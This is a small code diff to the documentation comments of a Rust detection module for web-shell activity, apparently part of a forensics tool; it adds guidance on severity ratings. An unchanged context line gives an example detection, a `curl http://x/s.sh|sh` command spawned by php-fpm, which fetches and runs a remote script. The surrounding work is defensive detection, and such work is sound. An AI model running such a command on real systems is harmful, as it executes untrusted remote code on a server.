@@ -10,6 +10,10 @@
 //!
 //! **Example:** pid 7001 `sh -c curl http://x/s.sh|sh` as www-data, parent php-fpm.
 //!
+//! **Calibration:** role `activity`; critical or high only for evidence that an attacker acted,
+//! medium for what needs a look, low and info for context; a weakness rather than an act is
+//! marked `hardening` (docs/PRECISION.md).
+//!
 //! **ATT&CK:** T1505.003 (Web Shell), T1059.004 (Unix Shell).
 
 use huoyan_artifacts::proc::LinkTarget;
